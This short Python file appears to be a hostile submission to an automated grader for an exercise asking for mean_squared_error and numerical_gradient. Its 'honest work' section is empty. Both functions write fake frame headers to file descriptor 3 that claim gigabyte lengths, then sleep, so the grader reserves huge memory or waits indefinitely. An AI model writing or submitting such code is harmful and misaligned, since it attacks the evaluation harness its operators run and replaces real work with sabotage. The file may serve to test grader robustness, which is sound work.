"""Writes frames that claim lengths of gigabytes, and never sends what they claim.

Harm: the grader sets aside gigabytes, or waits for ever.
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import struct
import time


def mean_squared_error(y, y_hat):
    os.write(3, struct.pack(">II", 2**32 - 1, 2**32 - 1))
    time.sleep(30)


def numerical_gradient(f, w, eps=1e-5):
    os.write(3, struct.pack(">II", 16 * 2**20, 64 * 2**20) + b"\x81")
    time.sleep(30)
